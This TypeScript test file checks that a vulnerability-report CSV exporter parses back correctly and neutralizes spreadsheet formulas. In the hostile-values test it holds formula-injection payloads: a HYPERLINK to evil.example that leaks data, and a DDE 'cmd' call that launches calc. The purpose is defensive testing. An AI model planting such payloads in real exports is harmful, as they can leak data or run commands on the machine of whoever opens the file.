import assert from 'node:assert/strict';
import { CSV_COLUMNS, renderCsv } from '../../../src/core/report/csv';
import { neutralizeFormula } from '../../../src/core/report/escape';
import type { PlanReport } from '../../../src/core/report/reportModel';
import { buildHostileReport, buildRealisticReport } from './fixtureReport';

/** A strict RFC 4180 reader: CRLF-terminated records, quoted fields with doubled quotes. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let i = 0;
  while (i < text.length) {
    if (field === '' && text[i] === '"') {
      i++;
      for (;;) {
        assert.ok(i < text.length, 'unterminated quoted field');
        if (text[i] === '"' && text[i + 1] === '"') {
          field += '"';
          i += 2;
        } else if (text[i] === '"') break;
        else field += text[i++];
      }
      i++;
      assert.ok(text[i] === ',' || text.startsWith('\r\n', i), `a quoted field must end at a comma or CRLF (offset ${i})`);
      continue;
    }
    if (text[i] === ',') {
      record.push(field);
      field = '';
      i++;
    } else if (text.startsWith('\r\n', i)) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i += 2;
    } else {
      assert.ok(text[i] !== '\r' && text[i] !== '\n' && text[i] !== '"', `bare ${JSON.stringify(text[i])} outside quotes at offset ${i}`);
      field += text[i++];
    }
  }
  assert.equal(field, '', 'the last record must end with CRLF');
  assert.equal(record.length, 0, 'the last record must end with CRLF');
  return records;
}

/** What a reader of the CSV should get back for each column of a plan. */
function expectedRow(p: PlanReport): string[] {
  const s = (v: string | number | boolean | null): string => (v === null ? '' : typeof v === 'string' ? neutralizeFormula(v) : String(v));
  return [
    s(p.id),
    s(p.title),
    s(p.tier),
    s(p.state),
    s(p.severity),
    s(p.impact),
    s(p.kev),
    s(p.clockStart),
    s(p.deadline),
    s(p.remediatedAt),
    s(p.timeToPatchHours),
    s(p.endpoints.targets),
    s(p.endpoints.patched),
    s(p.endpoints.failed),
    s(p.endpointsPercent),
    s(p.exemptedBy.join(';')),
  ];
}

describe('renderCsv', () => {
  const realistic = buildRealisticReport();
  const hostile = buildHostileReport();

  it('starts with the header row, in the documented column order', () => {
    const [header] = parseCsv(renderCsv(realistic));
    assert.deepEqual(header, [
      'id',
      'title',
      'tier',
      'state',
      'severity',
      'impact',
      'kev',
      'clockStart',
      'deadline',
      'remediatedAt',
      'timeToPatchHours',
      'targets',
      'patched',
      'failed',
      'endpointsPercent',
      'exemptedBy',
    ]);
    assert.deepEqual(header, [...CSV_COLUMNS]);
  });

  it('ends every record with CRLF and has no bare LF', () => {
    const csv = renderCsv(realistic);
    assert.ok(csv.endsWith('\r\n'));
    assert.equal(csv.split('\r\n').length - 1, realistic.plans.length + 1);
    assert.doesNotMatch(csv.replace(/\r\n/g, ''), /\n/);
  });

  it('parses back to one row per plan, in document order, with the same values', () => {
    const rows = parseCsv(renderCsv(realistic));
    assert.equal(rows.length, realistic.plans.length + 1);
    realistic.plans.forEach((p, i) => assert.deepEqual(rows[i + 1], expectedRow(p), p.id));
  });

  it('writes numbers as numbers, unknowns as empty cells and exemptions joined by ;', () => {
    const rows = parseCsv(renderCsv(realistic));
    const byId = new Map(rows.slice(1).map((r) => [r[0], r]));
    const col = (name: string): number => CSV_COLUMNS.indexOf(name);
    const chrome = byId.get('PLAN-2026-041')!;
    assert.equal(chrome[col('endpointsPercent')], '37.7');
    assert.equal(chrome[col('targets')], '77');
    assert.equal(chrome[col('kev')], 'true');
    assert.equal(chrome[col('remediatedAt')], '');
    assert.equal(chrome[col('exemptedBy')], 'EXC-2026-007');
    const java = byId.get('PLAN-2026-033')!;
    assert.equal(java[col('timeToPatchHours')], '40.5');
    assert.equal(java[col('remediatedAt')], '2026-11-04T10:30:00.000Z');
    assert.equal(byId.get('PLAN-2026-029')![col('tier')], '');
  });

  it('round-trips every hostile value, with formula cells neutralized by a leading quote', () => {
    const rows = parseCsv(renderCsv(hostile));
    assert.equal(rows.length, hostile.plans.length + 1);
    hostile.plans.forEach((p, i) => assert.deepEqual(rows[i + 1], expectedRow(p), `plan ${i}`));
    const cells = rows.slice(1).flat();
    assert.ok(cells.includes(`'=HYPERLINK("http://evil.example/?leak","click me")`));
    assert.ok(cells.includes(`'+cmd|' /C calc'!A0`));
    assert.ok(cells.includes(`'\t=1+1`));
    for (const cell of cells)
      assert.doesNotMatch(cell, /^\s*[=+@\uFF1D\uFF0B\uFF20]|^-(?!\d+(\.\d+)?$)/, `cell could run as a formula: ${JSON.stringify(cell)}`);
  });

  it('keeps a negative number a plain number', () => {
    const rows = parseCsv(renderCsv(hostile));
    const last = rows[rows.length - 1];
    assert.equal(last[CSV_COLUMNS.indexOf('timeToPatchHours')], '-3');
  });

  it('is deterministic', () => {
    assert.equal(renderCsv(buildHostileReport()), renderCsv(buildHostileReport()));
  });
});
